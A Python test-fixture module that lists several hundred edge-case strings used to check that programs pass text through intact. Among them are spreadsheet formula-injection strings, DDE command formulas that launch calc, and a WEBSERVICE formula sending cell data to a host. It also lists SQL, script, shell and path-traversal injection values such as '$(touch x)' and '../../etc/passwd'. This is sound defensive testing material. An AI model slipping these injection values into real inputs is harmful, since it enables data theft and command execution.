"""More than five hundred of the nastiest texts, by what they break in other programs.

``NASTY`` are those that must come through everything exactly; ``REFUSED`` those
that no file of text can hold, which must be refused where they are entered.
"""

from __future__ import annotations

import itertools

WELL_KNOWN = (
    "",
    " ",
    "-",
    "--",
    "-1",
    "+1",
    "=1+1",
    '=HYPERLINK("http://x","y")',
    "@SUM(A1)",
    "\tTab first",
    "\rCR first",
    "\nLF first",
    "'=quoted",
    'He said "no"',
    '"',
    '""',
    "a,b",
    "a;b",
    "a\tb",
    "a\r\nb",
    "a\rb",
    "ends\n",
    "\\",
    "\\n",
    "\x01\x08\x0b\x0c\x1f\x7f",
    "\u0085\u2028\u2029",
    "\ufeff",
    "\ufffe\uffff",
    "007",
    "1e5",
    "123456789012345678901234567890123456789",
    "NULL",
    "null",
    "שלום \u200f(עברית)\u202e",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "e\u0301\u0327",
    "%s %d {a} {0}",
    "; ",
    "a; b",
    "[*]?",
    "/",
)
"""A few of every family, the shortest first."""

# What a spreadsheet may run, alone and behind everything that may hide it from a guard.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=A1",
    "=SUM(1,1)",
    "=SUM(1;1)",
    '=HYPERLINK("http://example.org";"click")',
    '=HYPERLINK("http://example.org","click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://example.org/?x="&A1)',
    '=IMPORTXML("http://example.org";"//a")',
    "=42-1",
    "=FLOOR(RAND()*200, 1)",
    "{=1+1}",
    "=1+1\r\n=2+2",
    "=R[1]C[1]",
    "=#REF!",
    "=TRUE()",
)
BEFORE_FORMULAS = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "'",
    '"',
    "''",
    ",",
    ";",
    "\x01",
)
FULL_WIDTH = tuple(f"{sign}{rest}" for sign in "＝＋－＠" for rest in ("1+1", "SUM(1,1)", "A1", ""))
HIDDEN_FORMULAS = tuple(
    f"{before}{formula}" for formula in FORMULAS[:7] for before in BEFORE_FORMULAS
)
OTHER_FORMULAS = (
    '"=1+1"',
    '"=1+1","=2+2"',
    'a";=1+1',
    'a",=1+1',
    "a\n=1+1",
    "a\r=1+1",
    "a\r\n=1+1",
    "a\t=1+1",
    "x;=1+1;y",
    "x,=1+1,y",
    "−1",
    "ID",
    "ID;PWXL;N;E",
    "SYLK",
    "sep=;",
    "sep=,",
    "#N/A",
    "#REF!",
    "#NAME?",
)

NUMBERS = (
    *("0", "-0", "00", "0000123", "007.50", "1.50", ".5", "5.", "1e5", "1E5", "1e400", "-1e-400"),
    *("1,5", "1.234,56", "1,234.56", "1 234,5", "1'234.5", "1\u00a0234", "1\u202f234", "$5", "5 %"),
    *("50%", "1/2", "½", "²", "١٢٣", "１２３", "Ⅻ", "0x1F", "0b1", "1_000", "+49 30 1234", "1-2"),
    *("9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775809"),
    *("1" * 39, "9" * 400, "0." + "3" * 60, "3.0000000000000001", "Infinity", "-Infinity", "NaN"),
    *("inf", "nan", "1.#INF", "12:30", "1:2:3", "24:00", "--1", "+-1", "- 1", "-.", "-a", "-1,5"),
)
WORDS = (
    *("TRUE", "true", "FALSE", "WAHR", "Yes", "no", "NULL", "null", "None", "nil", "undefined"),
    *("NA", "N/A", "n/a", "#N/A N/A", "\\N", "(null)", "void", "true,false", "CON", "aux.txt"),
)
DATES = (
    *("2026-03-31", "31.3.2026", "3/31/2026", "1/2/2025", "2026-02-30", "0000-00-00", "MAR-1"),
    *("1-Jan", "SEPT2", "DEC1", "2026-03-31T14:30Z", "2026-03-31 14:30:00.123+00:00", "March 7"),
    *("20260331", "31/02/99", "12:30 PM", "Tue", "1e3/4"),
)
CODE = (
    "' OR 1=1 --",
    "'; DROP TABLE responses; --",
    '"; DROP TABLE "responses"; --',
    "Robert'); DROP TABLE answers;--",
    "1; SELECT sqlite_version()",
    "%' ESCAPE '\\",
    "_%",
    "a''b",
    "`x`",
    "[x]",
    ":survey",
    "?1",
    "{a}.text",
    "<script>alert(1)</script>",
    "<b>bold</b> &amp; <i>more",
    "&lt;&#0;&#x0;",
    "<![CDATA[x]]>",
    "]]>",
    "<!-- -->",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    '<img src="file://example.org/x.png">',
    "<a href='http://example.org'>x</a>",
    '{"a": [1, null, "x"]}',
    "[]",
    "{}",
    '"\\u0000"',
    "\\u0000",
    "\\ud800",
    "\\x00",
    "\\r\\n",
    "\\\\",
    '\\"',
    "${name}",
    "${",
    "$(touch x)",
    "`id`",
    "| ls",
    "&& exit",
    "../../etc/passwd",
    "C:\\Windows\\",
    "file:///etc/passwd",
    "%00",
    "%n%n%n%n",
    "%1$s",
    "{0.__class__}",
    "{{7*7}}",
    "&File",
    "&&",
    "a&b",
)
LINE_ENDS = (
    "\n",
    "\r",
    "\r\n",
    "\n\r",
    "\v",
    "\f",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
)
LINES = tuple(
    text
    for end in LINE_ENDS
    for text in (end, f"a{end}b", f"{end}a", f"a{end}", f'"{end}"', end * 3)
)
MARKS = ('"', "'", ",", ";", "\t", "|", "/", "\\", "“", "„", "«", "`")
QUOTED = tuple(
    text
    for mark in MARKS
    for text in (mark, mark * 2, mark * 3, f"a{mark}b", f"{mark}a", f"a{mark}", f"{mark}a{mark}")
)
SPACES = tuple(
    text
    for space in (" ", "  ", "\u00a0", "\u2007", "\u3000", "\u200b", "\u2060", "\u180e", "\u00ad")
    for text in (space, f"{space}a", f"a{space}", f"a{space}b")
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160)))
DIRECTIONS = tuple(
    f"{mark}abc אבג{end}"
    for mark in "\u200e\u200f\u061c\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
    for end in ("", "\u202c", "\u2069")
)
SCRIPTS = (
    *(
        "שָׁלוֹם",
        "مرحبا بالعالم",
        "العَرَبِيَّة",
        "日本語",
        "한국어",
        "中文，测试",
        "ไทย",
        "हिन्दी",
        "தமிழ்",
        "ქართული",
    ),
    *(
        "Ελληνικά",
        "Привет",
        "Zażółć gęślą jaźń",
        "İıŞşĞğ",
        "Straße ẞ",
        "ﬁ ﬂ",
        "ǅ",
        "Å Å Å",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    ),
    *(
        "𐍈",
        "\U0002a6d6",
        "\U00100000",
        "\ue000",
        "\U0010fffd",
        "C’est “ça” – déjà vu…",
        "5 €, 10 £",
    ),
)
EMOJI = (
    *(
        "😀",
        "👍🏽",
        "👩‍👩‍👧‍👦",
        "🏳️‍🌈",
        "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
        "🇩🇪",
        "🇩",
        "1️⃣",
        "☺️",
        "☺︎",
        "👁️‍🗨️",
        "\u200d",
        "\ufe0f",
        "🏽",
    ),
    *("😀" * 100, "🧑🏿‍🤝‍🧑🏻", "❤️‍🔥", "𓀀", "\U000e0041"),
)
COMBINING = (
    *(
        "e\u0301",
        "\u0301",
        "\u0301e",
        "e\u0301\u0327",
        "e\u0327\u0301",
        "é",
        "a" + "\u0300\u0301\u0302" * 50,
    ),
    *("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334A\u0328\u0344L", "각", "각", "नि"),
)
STRANGE = (
    *(
        "\ufeff",
        "\ufeffa",
        "a\ufeffb",
        "a\ufeff",
        "\ufeff\ufeff",
        "\ufffe",
        "\uffff",
        "\ufdd0",
        "\ufffd",
        "\ufffc",
    ),
    *(
        "\U0001ffff",
        "\U0010ffff",
        "\ufff9a\ufffab\ufffb",
        "\u034f",
        "\u115f",
        "\u3164",
        "\u2800",
        "ï»¿",
        "Ã©",
        "þÿ",
    ),
)
LONG = (
    "x" * 100_000,
    "é" * 50_000,
    "😀" * 25_000,
    '"' * 32_768,
    "a\r\n" * 30_000,
    ("word " * 20_000)[:-1],
    "=" * 32_768,
    "," * 32_768,
    "a" * 32_767,
    "a" * 32_768,
)

NASTY = tuple(
    dict.fromkeys(
        itertools.chain(
            WELL_KNOWN,
            FORMULAS,
            FULL_WIDTH,
            HIDDEN_FORMULAS,
            OTHER_FORMULAS,
            NUMBERS,
            WORDS,
            DATES,
            CODE,
            LINES,
            QUOTED,
            SPACES,
            CONTROLS,
            DIRECTIONS,
            SCRIPTS,
            EMOJI,
            COMBINING,
            STRANGE,
            LONG,
        )
    )
)
SHORT = tuple(text for text in NASTY if len(text) < 1_000)

REFUSED = ("\x00", "a\x00b", "\ud800", "a\udfff", "\udc00\ud800", "😀\ud83d")
"""NUL ends a text for many programs; half a character cannot be written in UTF-8."""
